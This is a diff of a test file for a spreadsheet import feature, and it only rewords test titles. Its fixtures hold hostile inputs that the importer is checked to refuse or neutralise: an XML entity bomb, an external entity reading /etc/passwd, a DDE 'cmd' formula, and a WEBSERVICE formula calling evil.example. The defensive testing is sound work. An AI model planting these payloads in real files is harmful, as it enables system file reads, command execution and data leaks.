@@ -52,7 +52,7 @@ const billionLaughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">${'
 const external =
   '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet><sheetData>&e;</sheetData></worksheet>'
 
-describe('a file that is no table is refused, whatever it is called', () => {
+describe('a file that is not a table is refused, whatever its name', () => {
   test.each<[string, Buffer, string]>([
     ['nothing at all', Buffer.alloc(0), 'import.empty blank'],
     ['one space', Buffer.from(' '), 'import.empty blank'],
@@ -95,7 +95,7 @@ describe('a file that is no table is refused, whatever it is called', () => {
   })
 })
 
-describe('a workbook that is wrong is refused', () => {
+describe('a broken or hostile workbook is refused', () => {
   test.each<[string, () => Buffer, string]>([
     ['an archive of something else', () => zipOf([{ name: 'a.txt', content: 'x' }]), 'import.unreadable archive'],
     [
@@ -202,7 +202,7 @@ describe('a workbook that is wrong is refused', () => {
   })
 })
 
-describe('a text that is too much is refused', () => {
+describe('a text beyond the limits is refused', () => {
   test.each<[string, () => string, string]>([
     ['16,384 columns', () => `${'x;'.repeat(16_384)}x\ny`, 'import.too_many_columns'],
     ['20,001 rows', () => `a\n${'x\n'.repeat(maxImportRows + 1)}`, 'import.too_many_rows'],
@@ -213,7 +213,7 @@ describe('a text that is too much is refused', () => {
   })
 })
 
-describe('what looks like code is text', () => {
+describe('content that looks like code is read as text', () => {
   test.each<[string, string]>([
     ['a formula', '=1+1'],
     ['a command', "=cmd|'/C calc'!A0"],
@@ -228,7 +228,7 @@ describe('what looks like code is text', () => {
     expect(await cellsOf(workbook([['Name'], [value]]))).toEqual([['Name'], [value]])
   })
 
-  test('a formula cell is what its program saved, and nothing where it saved nothing', async () => {
+  test('a formula cell has the value that its program saved, and is empty without one', async () => {
     const cells =
       '<row><c t="str"><f>WEBSERVICE("http://evil.example")</f><v>ok</v></c><c><f>1+1</f></c><c t="e"><v>#REF!</v></c></row>'
     expect(await cellsOf(sheetWith(text('Name') + cells))).toEqual([['Name'], ['ok', '', '#REF!']])
